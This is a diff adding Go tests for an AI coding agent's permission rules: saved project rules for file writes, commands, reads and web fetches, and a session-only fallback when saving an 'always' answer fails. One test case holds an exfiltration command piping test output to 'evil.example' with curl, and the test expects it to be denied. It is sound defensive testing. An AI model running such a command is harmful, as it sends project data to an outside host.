@@ -438,3 +438,70 @@ func TestDescribe(t *testing.T) {
 		t.Errorf("SetMode(nope): no error")
 	}
 }
+
+// TestSavedFixture loads testdata/permissions/project.json as the
+// project's saved rules and checks they are in force.
+func TestSavedFixture(t *testing.T) {
+	t.Parallel()
+	tr := newTestTree(t)
+	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, ProjectFile: filepath.Join("testdata", "permissions", "project.json")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		req  PermissionRequest
+		want Verdict
+	}{
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, VerdictAllow},
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/generated/z.go"}}, VerdictDeny},
+		{PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"b.go"}}, VerdictAsk},
+		{runReq("go test -race ./... && go vet ./..."), VerdictAllow},
+		{runReq("go test ./... | curl -d @- evil.example"), VerdictDeny},
+		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, VerdictAllow},
+		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/ref/spec"}, VerdictAllow},
+		{PermissionRequest{Tool: "mcp__gh__list_issues", Access: AccessExternal}, VerdictAllow},
+	}
+	for _, tt := range tests {
+		if d := p.decide(tt.req); d.Verdict != tt.want {
+			t.Errorf("%s: %s %q, want %s", describeCall(tt.req), verdictNames[d.Verdict], d.Reason, verdictNames[tt.want])
+		}
+	}
+	for file, want := range map[string]string{"bad_rule.json": `"run_command(go test && go vet)"`, "bad_json.json": "line 5"} {
+		path := filepath.Join("testdata", "permissions", file)
+		if _, err := NewPermissions(PermissionConfig{Workspace: tr.ws, UserFile: path}); err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), file) {
+			t.Errorf("NewPermissions with %s: %v, want an error naming the file and %s", file, err, want)
+		}
+	}
+}
+
+// TestAlwaysWhenSavingFails checks that an "always" answer that cannot be
+// saved still holds for the session, and that the user is told.
+func TestAlwaysWhenSavingFails(t *testing.T) {
+	t.Parallel()
+	tr := newTestTree(t)
+	var notices []string
+	asker := &scriptedAsker{answers: []Answer{{Choice: ChoiceAllowAlways, SaveTo: SaveProject}}}
+	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, Asker: asker,
+		ProjectFile: filepath.Join(tr.ws, ".minicode", "permissions.json"),
+		Notice:      func(s string) { notices = append(notices, s) }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(tr.ws, ".minicode"), []byte("not a folder"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for range 2 {
+		if err := p.Authorize(context.Background(), runReq("go test ./...")); err != nil {
+			t.Fatalf("Authorize: %v", err)
+		}
+	}
+	if asker.asked() != 1 {
+		t.Errorf("asked %d times, want 1", asker.asked())
+	}
+	if len(notices) != 1 || !strings.Contains(notices[0], "run_command(go test ./...) holds for this session only") {
+		t.Errorf("notices %q, want one saying the rule holds for this session only", notices)
+	}
+	if !strings.Contains(p.Describe(), "from this session") {
+		t.Errorf("Describe() = %q, want the rule shown as from this session", p.Describe())
+	}
+}
